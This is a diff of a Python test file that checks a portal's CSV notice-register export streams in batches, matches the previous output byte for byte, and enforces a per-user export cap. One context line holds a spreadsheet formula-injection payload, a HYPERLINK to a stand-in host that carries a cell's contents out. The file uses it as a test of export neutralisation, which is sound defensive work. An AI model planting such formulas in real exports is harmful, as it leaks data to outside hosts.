@@ -4,12 +4,30 @@ from __future__ import annotations
 
 import csv
 import io
+from datetime import date
+from typing import Any
 
+import pytest
 from flask import Flask
-from sqlalchemy import select
+from sqlalchemy import event, func, select
+from sqlalchemy.orm import Session, selectinload
 
-from portal.domain.models import Agency, AuditEvent, Partnership, Role
-from portal.services import exports
+from portal.domain.dates import LONDON
+from portal.domain.models import (
+    Agency,
+    AuditEvent,
+    Notice,
+    NoticeEvent,
+    NoticeRecipient,
+    NoticeStage,
+    NoticeStatus,
+    Partnership,
+    Role,
+    User,
+)
+from portal.domain.working_days import ENGLAND_AND_WALES_CALENDAR
+from portal.services import chaser, exports, record, transitions
+from portal.services.runtime import PortalServices
 from portal.web.database import session_factory
 from tests.helpers import (
     CANARY_NAME,
@@ -21,6 +39,8 @@ from tests.helpers import (
     raise_notice,
     sign_in,
 )
+from tests.services.builders import RAISING, World
+from tests.services.test_transitions import CLOSURE
 
 HOSTILE_AGENCY = '=HYPERLINK("http://evil.test/?"&A1,"click")'
 
@@ -67,7 +87,8 @@ def test_exports_are_minimal_safe_and_restricted(app: Flask, accounts: Accounts)
 
     # A per-user cap: the eleventh export in an hour is refused and the refusal audited.
     for _ in range(exports.EXPORTS_PER_HOUR - 1):
-        assert manager.get("/business/notices.csv").status_code == 200
+        # Read to the end, as a WSGI server does: a streamed export holds its transaction until then.
+        assert manager.get("/business/notices.csv").data.decode("utf-8-sig").startswith("OFFICIAL-SENSITIVE")
     refused = manager.get("/business/notices.csv")
     assert refused.status_code == 429 and reference not in refused.get_data(as_text=True)
     with session_factory(app)() as db:
@@ -79,3 +100,131 @@ def test_exports_are_minimal_safe_and_restricted(app: Flask, accounts: Accounts)
             .all()
         )
         assert outcomes.count("ok") == exports.EXPORTS_PER_HOUR and outcomes.count("denied") == 1
+
+
+def register_as_before(db: Session, services: PortalServices, user: User) -> bytes:
+    """The register as the portal built it before it streamed (every notice loaded at once): the reference
+    the streamed file must match byte for byte."""
+    notices = (
+        db.execute(
+            select(Notice)
+            .where(Notice.partnership_id == user.partnership_id)
+            .options(
+                selectinload(Notice.stages),
+                selectinload(Notice.recipients).selectinload(NoticeRecipient.agency),
+                selectinload(Notice.raising_agency),
+                selectinload(Notice.partnership),
+            )
+            .order_by(Notice.submitted_at)
+        )
+        .scalars()
+        .all()
+    )
+    chases = dict(
+        db.execute(
+            select(NoticeEvent.notice_id, func.count())
+            .where(NoticeEvent.kind == "chased", NoticeEvent.notice_id.in_([n.id for n in notices]))
+            .group_by(NoticeEvent.notice_id)
+        ).all()
+    )
+    today = services.today()
+    buffer = io.StringIO()
+    writer = csv.writer(buffer, lineterminator="\r\n")
+    writer.writerow([exports.MARKING])
+    writer.writerow(exports.COLUMNS)
+    for n in notices:
+        procedure = record.procedure_of(n)
+        current = n.current_stage
+        open_now = n.is_open and current is not None and current.ended_at is None
+        due = current.due_on if open_now and current is not None else None
+        raised_on = n.submitted_at.astimezone(LONDON).date()
+        ended = n.closed_at.astimezone(LONDON).date() if n.closed_at else today
+        cells = [
+            n.reference,
+            n.partnership.name,
+            n.procedure_version,
+            n.date_of_notification.isoformat(),
+            raised_on.isoformat(),
+            n.raising_agency.name if n.raising_agency else "",
+            "; ".join(dict.fromkeys(r.agency.name for r in n.recipients)),
+            "; ".join(procedure.stage(s.stage).name for s in n.stages),
+            procedure.stage(n.stage).name,
+            "Yes" if any(s.skipped_from for s in n.stages) else "No",
+            NoticeStatus(n.status).label,
+            due.isoformat() if due else "",
+            "Yes" if due is not None and due < today else "No",
+            chases.get(n.id, 0),
+            n.closed_at.astimezone(LONDON).date().isoformat() if n.closed_at else "",
+            ENGLAND_AND_WALES_CALENDAR.working_days_between(raised_on, ended),
+        ]
+        writer.writerow([exports.neutralise(c) for c in cells])
+    return ("\ufeff" + buffer.getvalue()).encode("utf-8")
+
+
+def test_the_register_streams_in_batches_and_its_file_is_unchanged(
+    app: Flask, accounts: Accounts, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    world = World(app)
+    raiser = accounts.make(Role.PRACTITIONER, agency=RAISING)
+    bm = accounts.make(Role.BUSINESS_MANAGER)
+    made = [world.raise_rochdale(raiser) for _ in range(7)]
+    # Variety the register shows: an escalated and closed notice, and chased ones (overdue in 2027).
+    with world.session() as db:
+        transitions.escalate(
+            db,
+            world.services,
+            world.user(db, raiser),
+            made[0].id,
+            to_stage="stage-4",
+            reason="No strategy discussion after the review",
+            immediate_risk=False,
+            referral="",
+            skip_reason="",
+            chosen=[],
+        )
+    with world.session() as db:
+        transitions.close(
+            db, world.services, world.user(db, bm), made[0].id, closure=CLOSURE, outcome="resolved-by-agreement"
+        )
+    with world.session() as db:
+        # Rochdale sets no timescale of its own: give three open stages a due date, then chase them twice.
+        for stage in db.execute(select(NoticeStage).where(NoticeStage.notice_id.in_([n.id for n in made[1:4]]))):
+            stage[0].due_on = date(2026, 12, 4)
+        db.commit()
+        assert chaser.chase_overdue(db, world.services, today=date(2026, 12, 7)) == 3
+        assert chaser.chase_overdue(db, world.services, today=date(2026, 12, 14)) == 3
+    world.services.clock.fixed = date(2026, 12, 15)
+    with world.session() as db:
+        expected = register_as_before(db, world.services, world.user(db, bm))
+
+    monkeypatch.setattr(exports, "BATCH_SIZE", 3)
+    engine = app.extensions["portal.engine"]
+    stage_reads: list[str] = []
+
+    def seen(_conn: Any, _cursor: Any, statement: str, *_args: Any) -> None:
+        if "FROM notice_stage" in statement:
+            stage_reads.append(statement)
+
+    event.listen(engine, "before_cursor_execute", seen)
+    try:
+        with world.session() as db:
+            _name, chunks = exports.export_register(db, world.services, world.user(db, bm))
+            assert not isinstance(chunks, bytes | list)  # a generator: nothing is built until it is read
+            header = next(chunks)
+            assert header.decode("utf-8-sig").startswith("OFFICIAL-SENSITIVE") and stage_reads == []
+            body = list(chunks)
+    finally:
+        event.remove(engine, "before_cursor_execute", seen)
+    # Seven notices in batches of three: three batches, each one chunk and one read of its stages only.
+    assert len(body) == 3 and len(stage_reads) == 3
+    assert header + b"".join(body) == expected
+    text = expected.decode("utf-8-sig")
+    assert ",Closed," in text and ",2," in text and ",Yes," in text and text.count("\r\n") == 2 + 7
+
+    # Over HTTP the response is streamed, and is the same file.
+    client = app.test_client()
+    sign_in(client, app, bm)
+    response = client.get("/business/notices.csv")
+    assert response.is_streamed and response.data == expected
+    # Once the last chunk is sent the read is over: no connection is left holding a transaction.
+    assert engine.pool.checkedout() == 0
